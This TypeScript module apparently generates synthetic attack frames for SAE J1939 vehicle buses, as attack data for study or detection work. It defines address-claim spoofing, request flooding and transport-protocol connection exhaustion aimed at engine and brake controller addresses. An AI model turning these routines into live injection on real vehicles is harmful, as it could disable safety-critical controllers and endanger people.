import type { Survey } from '../survey.ts'
import { beats, frameOf, isExtendedBus, type MakeAttack } from './making.ts'

const addressClaimed = 0x18eeff00
const request = 0x18ea0000
const connection = 0x1cec0000

/** Source addresses in use on the bus; if there are none, those of an engine and a brake controller. */
function addresses(survey: Survey): readonly number[] {
  return isExtendedBus(survey) ? [...new Set(survey.ids.map(({ id }) => id & 0xff))] : [0x00, 0x0b]
}

/**
 * Claims addresses that are in use with a NAME that wins (SAE J1939-81: the lower one), so that their owners must give
 * them up.
 */
export const claimAddresses =
  (perSecond: number): MakeAttack =>
  (survey, span, chance) => {
    const owned = addresses(survey)
    const frames = beats(span, perSecond, chance).map((ts, n) => {
      const name = Uint8Array.of(chance.below(256), chance.below(256), 0, 0, 0, 0, 0, 0)
      return frameOf(survey.bus, ts, addressClaimed | owned[n % owned.length]!, name)
    })
    return { ...span, frames }
  }

/** Requests one parameter group after another from a controller (PGN 59904), more than it can answer. */
export const overloadRequests =
  (perSecond: number): MakeAttack =>
  (survey, span, chance) => {
    const to = chance.pick(addresses(survey))
    const frames = beats(span, perSecond, chance).map((ts) =>
      frameOf(
        survey.bus,
        ts,
        request | (to << 8) | 0xf9,
        Uint8Array.of(chance.below(256), 0xfe + chance.below(2), 0x00),
      ),
    )
    return { ...span, frames }
  }

/** Opens connections (TP.CM_RTS of 1,785 bytes, SAE J1939-21) and never sends the announced data. */
export const openConnections =
  (perSecond: number): MakeAttack =>
  (survey, span, chance) => {
    const to = chance.pick(addresses(survey))
    const frames = beats(span, perSecond, chance).map((ts, n) =>
      frameOf(
        survey.bus,
        ts,
        connection | (to << 8) | (0x80 + (n % 64)),
        Uint8Array.of(0x10, 0xf9, 0x06, 0xff, 0xff, 0xca, 0xfe, 0x00),
      ),
    )
    return { ...span, frames }
  }
